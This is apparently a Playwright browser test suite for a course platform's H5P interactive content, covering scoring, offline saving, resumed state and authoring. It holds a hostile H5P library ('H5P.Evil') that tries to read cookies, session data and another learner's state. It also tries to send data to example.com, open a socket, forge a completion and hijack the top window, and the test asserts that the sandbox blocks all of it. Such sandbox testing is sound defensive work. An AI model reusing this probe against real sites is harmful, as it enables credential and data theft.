"""Interactive content, played in lessons by a real browser: exercises by others, and a hostile one."""

import json
import re
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import FrameLocator, Page, expect

from courses.catalog.models import OutlineItem
from courses.h5p import services
from courses.h5p.models import Attempt, PlayerState, XapiStatement
from courses.pages.models import LessonPage
from courses.pages.services import publish_course
from lms.progress.models import CourseProgress, ItemProgress
from tests.browser.test_journey import WAGTAIL
from tests.browser.visitor import Visitor
from tests.factories.h5p import Classroom, Learner, content_from, state
from tests.factories.packages import CARD, SEMANTICS, library, needs
from tests.factories.pages import make_course_page
from tests.factories.people import PersonFactory

ROOT = Path(__file__).parents[2]
MATERIAL = ROOT.parent / "shared" / "material" / "h5p"
WITHOUT_LIBRARIES = {"crossword.h5p", "H5PMath.h5p"}
PACKAGES = sorted({path.name for path in MATERIAL.glob("*.h5p")} - WITHOUT_LIBRARIES)
ABROAD = re.compile(r"violates the following Content Security Policy directive")
"""What the browser says when content asks for something on another host, which it must not get."""

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("frames_served")]
real = pytest.mark.skipif(not PACKAGES, reason="real packages are not part of the repository")


class Complaints(list[str]):
    """What a visitor complains about, but for content asking elsewhere: that is its own affair, and gets nothing."""

    def append(self, line: str) -> None:
        if not ABROAD.search(line) and "asks another host" not in line:
            super().append(line)


class Window:
    """A browser window of a learner, in front of her lesson."""

    def __init__(self, visitor: Visitor, learner: Learner) -> None:
        self.visitor, self.page, self.learner = visitor, visitor.page, learner
        self.card = self.page.locator(".h5p-card")
        visitor.complaints = Complaints()

    def open(self) -> FrameLocator:
        """Open the lesson and wait until its content plays."""
        self.visitor.open(self.learner.address)
        expect(self.card).to_have_attribute("data-state", "open")
        return self.frame

    @property
    def frame(self) -> FrameLocator:
        return self.page.frame_locator(".h5p-card iframe")

    def inside(self, code: str) -> Any:
        """What a script finds inside the frame."""
        return next(frame for frame in self.page.frames if "/h5p/frame/" in frame.url).evaluate(code)

    def wait_for(self, is_there: Callable[[], Any]) -> None:
        """Give the page a minute until something is in the database."""
        for _ in range(300):
            if is_there():
                return
            self.page.wait_for_timeout(200)
        raise AssertionError("nothing arrived")

    def leave(self) -> None:
        """Go away, and let the server hear what the page still says at its end."""
        self.page.goto("about:blank")
        self.page.wait_for_timeout(400)


@pytest.fixture
def window(visit) -> Iterator[Callable[..., Window]]:
    opened: list[Window] = []

    def open_for(learner: Learner) -> Window:
        opened.append(Window(visit(learner.enrollment.person), learner))
        return opened[-1]

    yield open_for
    for each in opened:
        each.visitor.context.set_offline(False)
        each.leave()


def a_learner(name: str, **asked: Any) -> Learner:
    """A learner in front of a real package."""
    content = services.import_package(MATERIAL / name).content
    assert content is not None
    return Classroom(content, **asked).learner()


def kept(learner: Learner, part: str) -> Callable[[], bool]:
    """Whether the server has a state of hers that holds this."""
    return PlayerState.objects.filter(enrollment=learner.enrollment, data__contains=part).exists


def is_complete(learner: Learner) -> Callable[[], bool]:
    """Whether the server says that she is done with the content."""
    return ItemProgress.objects.filter(item=learner.room.item).exclude(completed_at=None).exists


@real
@pytest.mark.parametrize("name", PACKAGES)
def test_every_package_plays_without_an_error_of_ours(name, window):
    there = window(a_learner(name, completion="viewed"))

    there.open()

    there.wait_for(is_complete(there.learner))
    assert there.inside("() => document.querySelector('.h5p-content').querySelectorAll('*').length") > 1


@real
def test_an_answered_exercise_completes_the_course(window, shots):
    learner = a_learner("multichoice-1.16-hub.h5p", completion="score", passing_grade=60)
    there = window(learner)
    content = there.open()
    finish = there.page.locator("#lesson-foot button[type=submit]")
    expect(finish).to_be_disabled()

    content.get_by_role("radio", name="Blue").click()
    content.get_by_role("button", name="Check").click()
    there.wait_for(Attempt.objects.exists)
    expect(there.card.locator("[data-standing]")).to_contain_text("nilai terbaik 0 dari 100")
    expect(finish).to_be_disabled()
    content.get_by_role("button", name="Retry").click()
    content.get_by_role("radio", name="Very dark purple").click()
    content.get_by_role("button", name="Check").click()

    expect(there.card.locator("[data-standing]")).to_contain_text("nilai terbaik 100 dari 100")
    expect(finish).to_be_enabled()
    finish.click()
    there.page.wait_for_url("**/completed/")
    done = CourseProgress.objects.get(enrollment=learner.enrollment)
    assert done.completed_at
    assert done.score == 100
    assert list(Attempt.objects.order_by("pk").values_list("score", "most")) == [(0, 1), (1, 1)]
    assert XapiStatement.objects.filter(verb="http://adlnet.gov/expapi/verbs/answered").count() == 2


@real
def test_what_is_answered_while_the_line_is_down_arrives_once_when_it_is_back(window):
    learner = a_learner("truefalse-1.8-hub.h5p")
    there = window(learner)
    content = there.open()
    there.wait_for(XapiStatement.objects.exists)

    there.visitor.context.set_offline(True)
    with there.visitor.refused():
        content.get_by_role("radio", name="Yes").click()
        content.get_by_role("button", name="Check").click()
        expect(there.card.locator("[data-said]")).to_contain_text("Sambungan terputus")
        assert not Attempt.objects.exists()
        there.visitor.context.set_offline(False)
        there.wait_for(is_complete(learner))

    there.wait_for(lambda: there.page.evaluate("Object.keys(localStorage).filter(key => key.startsWith('h5p:'))") == [])
    assert Attempt.objects.get().grade == 100
    expect(there.card.locator("[data-said]")).to_contain_text("tersimpan")


@real
def test_blanks_are_filled_as_they_were_left_even_when_left_at_once(window):
    learner = a_learner("blanks-1.14-hub.h5p")
    there = window(learner)

    there.open().locator("input.h5p-text-input").first.fill("blue")
    # Not a moment for any timer.
    there.leave()

    expect(there.open().locator("input.h5p-text-input").first).to_have_value("blue")
    assert kept(learner, "blue")()


@real
def test_a_column_goes_on_where_it_was_left(window):
    learner = a_learner("column-1.13.h5p")
    there = window(learner)

    there.open().locator("input.h5p-text-input").first.fill("padi")
    there.wait_for(kept(learner, "padi"))
    there.leave()

    expect(there.open().locator("input.h5p-text-input").first).to_have_value("padi")


@real
def test_a_question_set_goes_on_where_it_was_left(window):
    learner = a_learner("questionset-1.20-hub.h5p")
    there = window(learner)
    content = there.open()

    content.locator(".h5p-question-next:visible").first.click()
    there.wait_for(kept(learner, '"progress":1'))
    there.leave()

    content = there.open()
    expect(content.locator(".question-container").nth(1)).to_be_visible()
    expect(content.locator(".question-container").nth(0)).to_be_hidden()


@real
def test_an_interactive_film_goes_on_where_it_was_left(window, tmp_path):
    learner = Classroom(services.import_package(with_film_of_ours(tmp_path)).content).learner()
    there = window(learner)
    there.open()

    there.wait_for(lambda: is_loaded(there))
    there.inside("() => H5P.instances[0].video.seek(7)")
    there.wait_for(kept(learner, '"progress":7'))
    there.leave()

    content = there.open()
    there.wait_for(lambda: is_loaded(there))
    content.locator(".h5p-splash").click()
    there.wait_for(lambda: there.inside("() => H5P.instances[0].video.getCurrentTime()") > 0)
    assert 6.5 < there.inside("() => H5P.instances[0].video.getCurrentTime()") < 12


def is_loaded(there):
    """The library of this film cannot be played before its controls are there."""
    return there.inside("() => Boolean(H5P.instances[0].controls)")


def with_film_of_ours(folder: Path) -> Path:
    """The real interactive film, with a film of ours in the place of one that is on another server."""
    made = folder / "film.h5p"
    with zipfile.ZipFile(MATERIAL / "interactivevideo-1.24.h5p") as real, zipfile.ZipFile(made, "w") as copy:
        for name in real.namelist():
            body = real.read(name)
            if name == "content/content.json":
                params = json.loads(body)
                params["interactiveVideo"]["video"]["files"] = [{"path": "videos/film.webm", "mime": "video/webm"}]
                body = json.dumps(params).encode()
            copy.writestr(name, body)
        film = folder / "film.webm"
        picture = ["-f", "lavfi", "-i", "testsrc2=duration=20:size=160x90:rate=10", "-c:v", "libvpx", "-b:v", "60k"]
        subprocess.run(["ffmpeg", "-v", "error", *picture, film], check=True)
        copy.write(film, "content/videos/film.webm")
    return made


PROBE = """
H5P.Evil = function (params) {
  this.attach = async ($container) => {
    const found = {};
    const attempt = async (name, take) => {
      try {
        found[name] = String(await take()).slice(0, 80);
      } catch (error) {
        found[name] = error.name;
      }
    };
    const answer = async (url, options) => (await fetch(url, options)).text();
    const { hers, keep } = JSON.parse(params.greeting.replaceAll("&quot;", '"'));
    await attempt("origin", () => self.origin);
    await attempt("cookie", () => document.cookie);
    await attempt("storage of the site", () => indexedDB.open("x").constructor.name);
    await attempt("parent", () => parent.document.title);
    await attempt("top", () => top.localStorage.length);
    await attempt("session", () => answer("/people/me/", { credentials: "include" }));
    await attempt("her state", () => answer(hers, { credentials: "include" }));
    await attempt("elsewhere", () => answer("https://example.com/?stolen"));
    await attempt("picture", () => new Promise((go, fail) => {
      const picture = new Image();
      picture.onload = () => go("loaded");
      picture.onerror = () => fail(new TypeError());
      picture.src = "https://example.com/stolen.png";
    }));
    await attempt("socket", () => new Promise((go, fail) => {
      const socket = new WebSocket("wss://example.com/");
      socket.onopen = () => go("open");
      socket.onerror = () => fail(new TypeError());
    }));
    await attempt("frame", () => new Promise((go) => {
      const frame = document.createElement("iframe");
      frame.src = "/people/me/";
      frame.onload = () => go(frame.contentDocument ? "read" : "closed");
      document.body.append(frame);
    }));
    const form = new FormData();
    form.append("entry", JSON.stringify({ id: crypto.randomUUID(), kind: "finished", score: 1, max: 1 }));
    await attempt("form", () => answer(keep, { method: "POST", body: form, credentials: "include" }));
    await attempt("top window", () => { top.location = "https://example.com/"; return "gone"; });
    for (const said of [null, 7, { h5p: "finished", score: 9, max: 1 }, { h5p: "state", type: "x y", data: "?" },
      { h5p: "height", height: 1e9 }, { h5p: "statement", statement: "<script>" }]) parent.postMessage(said, "*");
    $container.append(H5P.jQuery("<pre>").text(JSON.stringify(found)));
  };
};
"""


def test_a_hostile_library_gets_nothing(window, tmp_path):
    her = Classroom(content_from(tmp_path)).learner()
    her.says(state("secret"))
    card = her.card()
    victim = {"hers": card["data-frame"], "keep": card["data-keep"]}
    content = content_from(
        tmp_path,
        {
            "H5P.Evil-1.0/library.json": library("H5P.Evil"),
            "H5P.Evil-1.0/semantics.json": SEMANTICS,
            "H5P.Evil-1.0/card.js": PROBE,
            "H5P.Evil-1.0/card.css": "",
            "content/content.json": {"greeting": json.dumps(victim)},
        },
        mainLibrary="H5P.Evil",
        preloadedDependencies=[needs("H5P.Evil")],
    )
    there = window(Classroom(content).learner())

    found = json.loads(there.open().locator("pre").inner_text())
    there.page.wait_for_timeout(4000)

    assert found.pop("origin") == "null"
    assert found.pop("frame") in {"closed", "SecurityError"}
    assert set(found.values()) == {"SecurityError", "TypeError"}, found
    assert len(found) == 11
    assert there.page.url.endswith(there.learner.address)
    assert not Attempt.objects.exists()
    assert not XapiStatement.objects.exists()
    assert PlayerState.objects.get().data == "secret"
    # What the browser says of each attempt is what was to be shown.
    there.visitor.complaints.clear()


QUESTION = """
H5P.Card = class extends H5P.EventDispatcher {
  constructor(params, id, extras) {
    super();
    this.answer = extras.previousState?.answer ?? "";
    this.attach = ($container) => {
      const field = H5P.jQuery("<input>").val(this.answer).on("input", () => (this.answer = field.val()));
      const check = H5P.jQuery("<button>").text("Periksa").on("click", () => {
        const event = this.createXAPIEventTemplate("answered");
        event.setScoredResult(this.answer === "padi" ? 3 : 1, 4, this);
        this.trigger(event);
      });
      $container.append(H5P.jQuery("<p>").text(params.greeting), H5P.jQuery("<p>").append(field, " ", check));
    };
    this.getCurrentState = () => (this.answer ? { answer: this.answer } : undefined);
  }
};
"""


@pytest.fixture
def learner(tmp_path):
    greeting = "Apa yang ditanam di sawah ini?"
    changes = {"content/content.json": {"greeting": greeting}, f"{CARD}/card.js": QUESTION}
    content = content_from(tmp_path, changes, title="Tanaman di sekitar kita")
    return Classroom(content, completion="score", passing_grade=70).learner()


def see(there: Window, name: str, state: str) -> None:
    """Look at the lesson in both languages once its content is in this state."""
    for language in ("id", "en"):
        there.visitor.speak(language)
        there.visitor.open(there.learner.address)
        expect(there.card).to_have_attribute("data-state", state)
        there.page.wait_for_timeout(300)
        there.visitor.look(f"h5p {name} {language}", again=False)


def test_the_lesson_is_good_to_look_at_whatever_becomes_of_its_content(window, learner):
    there = window(learner)
    see(there, "open", "open")

    there.page.route("**/h5p/frame/**", lambda route: None)
    see(there, "loading", "loading")
    there.page.unroute("**/h5p/frame/**")
    there.page.route("**/h5p/frame/**", lambda route: route.abort())
    with there.visitor.refused():
        see(there, "failed", "failed")
    there.page.unroute("**/h5p/frame/**")
    there.card.get_by_role("button", name="Try again").click()
    expect(there.card).to_have_attribute("data-state", "open")

    there.visitor.speak("id")
    content = there.open()
    content.locator("input").fill("padi")
    content.get_by_role("button", name="Periksa").click()
    there.wait_for(is_complete(learner))
    see(there, "complete", "open")


def test_where_data_is_dear_content_waits_to_be_asked_for_by_keyboard_too(window, learner):
    there = window(learner)
    there.page.add_init_script("Object.defineProperty(navigator, 'connection', { value: { saveData: true } })")

    see(there, "closed", "closed")
    there.page.wait_for_timeout(500)
    assert not there.page.locator(".h5p-card iframe").count()
    there.page.route("**/h5p/frame/**", lambda route: route.abort())
    with there.visitor.refused():
        there.card.get_by_role("button", name="Open").press("Enter")
        expect(there.card).to_have_attribute("data-state", "failed")
    expect(there.card.get_by_role("button", name="Try again")).to_be_focused()
    there.page.unroute("**/h5p/frame/**")
    there.page.keyboard.press("Enter")

    expect(there.card).to_have_attribute("data-state", "open")
    expect(there.page.locator(".h5p-card iframe")).to_be_focused()


def test_who_is_signed_out_under_way_loses_nothing(window, learner):
    there = window(learner)
    content = there.open()
    session = [cookie for cookie in there.visitor.context.cookies() if cookie["name"] == "sessionid"]
    there.visitor.context.clear_cookies(name="sessionid")

    content.locator("input").fill("padi")
    content.get_by_role("button", name="Periksa").click()
    expect(there.card.locator("[data-said]")).to_contain_text("Anda sudah keluar")
    assert not Attempt.objects.exists()
    there.leave()
    there.visitor.context.add_cookies(session)
    content = there.open()

    expect(content.locator("input")).to_have_value("padi")
    expect(there.card.locator("[data-standing]")).to_contain_text("75")
    assert Attempt.objects.get().grade == 75


def test_an_author_puts_content_into_a_lesson_and_looks_after_it(visit, tmp_path):
    content = content_from(tmp_path, {f"{CARD}/card.js": QUESTION}, title="Tanaman di sekitar kita")
    page_of_course = make_course_page([("text", "<p>Baca dahulu.</p>")])
    publish_course(page_of_course, by=None)
    lesson = LessonPage.objects.descendant_of(page_of_course).get()
    author = visit(PersonFactory(is_superuser=True))
    page = author.open(f"/cms/pages/{lesson.pk}/edit/")

    page.locator(".c-sf-add-button").last.click()
    page.get_by_role("option", name="Konten interaktif", exact=True).click()
    page.get_by_role("button", name="Pilih konten interaktif").click()
    page.get_by_role("link", name=content.title).click()
    page.locator("select[name$='-completion']").select_option("score")
    author.look("cms-h5p-block", again=False, but=WAGTAIL)
    page.set_viewport_size({"width": 1280, "height": 900})
    page.locator("input[name$='-passing_grade']").fill("80")
    publish(page)
    page.wait_for_url(re.compile(r"/cms/pages/\d+/$"))

    item = OutlineItem.objects.get(activity_kind="h5p")
    assert (item.activity_id, item.passing_grade, item.criterion) == (content.pk, 80, {"completion": "score"})
    author.open("/cms/h5p/")
    author.look("cms-h5p-contents", again=False, but=WAGTAIL)
    author.open(f"/cms/h5p/{content.key}/")
    expect(page.frame_locator(".h5p-preview").locator("button")).to_have_text("Periksa")
    author.look("cms-h5p-content", again=False, but=WAGTAIL)
    with page.expect_download() as taken:
        page.get_by_role("link", name="Unduh sebagai berkas").click()
    file = tmp_path / taken.value.suggested_filename
    taken.value.save_as(file)
    page.locator("input[name=package]").set_input_files(file)
    page.get_by_label("Peserta mulai dari awal").check()
    page.get_by_role("button", name="Unggah versi berikutnya").click()
    page.wait_for_url("**/cms/h5p/imports/*/")
    services.carry_out(int(page.url.rstrip("/").rsplit("/", 1)[-1]))
    content.refresh_from_db()
    assert (content.live.number, content.states_from) == (2, 2)


def publish(page: Page) -> None:
    """Press the editor's button for publishing."""
    page.locator("footer [data-controller~='w-dropdown'] button").first.click()
    page.click("[name=action-publish]")
    page.wait_for_load_state()
